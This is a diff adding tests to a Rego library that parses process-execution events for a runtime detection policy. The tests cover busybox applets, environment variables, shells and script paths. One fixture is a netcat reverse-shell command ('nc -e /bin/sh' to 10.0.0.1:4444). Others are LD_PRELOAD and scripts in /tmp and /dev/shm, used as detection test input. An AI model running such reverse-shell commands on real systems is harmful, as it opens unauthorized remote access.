@@ -8,14 +8,18 @@ import rego.v1
 import data.palisade.lib.fixtures as fx
 import data.palisade.lib
 import data.palisade.lib.args
+import data.palisade.lib.argv0
 import data.palisade.lib.binary
 import data.palisade.lib.cmdline
 import data.palisade.lib.daddr
 import data.palisade.lib.daddr_internal
+import data.palisade.lib.env
 import data.palisade.lib.euid_raised
 import data.palisade.lib.in_container
+import data.palisade.lib.is_shell
 import data.palisade.lib.names
 import data.palisade.lib.package_installs
+import data.palisade.lib.script_path
 import data.palisade.lib.shell_command
 import data.palisade.lib.where
 
@@ -40,6 +44,26 @@ test_names_cover_binary_filename_and_argv0 if {
 	names == {"busybox", "nc"} with input as busybox
 	python := fx.host_exec("/usr/bin/python3.12", ["python3", "-m", "pip", "install", "x"])
 	names == {"python3.12", "python3", "pip"} with input as python
+}
+
+test_a_multicall_binary_called_by_its_name_is_judged_as_the_applet if {
+	ev := fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
+	args == ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"] with input as ev
+	argv0 == "nc" with input as ev
+	names == {"busybox", "nc"} with input as ev
+	cmdline == "busybox nc -e /bin/sh 10.0.0.1 4444" with input as ev
+	toybox := fx.host_exec("/usr/bin/toybox", ["/usr/bin/toybox", "sh", "-c", "id"])
+	is_shell with input as toybox
+	shell_command == "id" with input as toybox
+	# busybox alone, and a program that is no multi-call binary.
+	args == ["busybox"] with input as fx.host_exec("/bin/busybox", ["busybox"])
+	args == ["env", "nc"] with input as fx.host_exec("/usr/bin/env", ["env", "nc"])
+}
+
+test_env_reads_captured_variables_as_strings if {
+	ev := fx.with_process(fx.host_exec("/bin/true", ["true"]), {"env": {"LD_PRELOAD": "/x.so", "HISTFILE": {"base64": "/w==", "text": "\ufffd"}}})
+	env == {"LD_PRELOAD": "/x.so", "HISTFILE": "\ufffd"} with input as ev
+	env == {} with input as fx.host_exec("/bin/true", ["true"])
 }
 
 test_shell_command if {
@@ -81,4 +105,14 @@ test_euid_raised if {
 	euid_raised with input as fx.with_process(fx.host_exec("/bin/bash", ["bash"]), {"uid": 1000, "euid": 0})
 	not euid_raised with input as fx.host_exec("/bin/bash", ["bash"])
 	not euid_raised with input as fx.with_process(fx.host_exec("/bin/bash", ["bash"]), {"uid": 1000, "euid": 1000})
+}
+
+test_script_path if {
+	script_path == "/tmp/x.sh" with input as fx.host_exec("/bin/bash", ["bash", "-x", "/tmp/x.sh", "a"])
+	script_path == "/dev/shm/x.py" with input as fx.host_exec("/usr/bin/python3.12", ["python3", "-W", "ignore", "/dev/shm/x.py"])
+	script_path == "/tmp/a.sh" with input as fx.host_exec("/bin/busybox", ["busybox", "sh", "/tmp/a.sh"])
+	not script_path with input as fx.host_exec("/bin/bash", ["bash", "-c", "id", "/tmp/x.sh"])
+	not script_path with input as fx.host_exec("/usr/bin/python3", ["python3", "-m", "http.server"])
+	not script_path with input as fx.host_exec("/usr/bin/perl", ["perl", "-e", "print 1", "/tmp/x"])
+	not script_path with input as fx.host_exec("/usr/bin/cat", ["cat", "/tmp/x.sh"])
 }
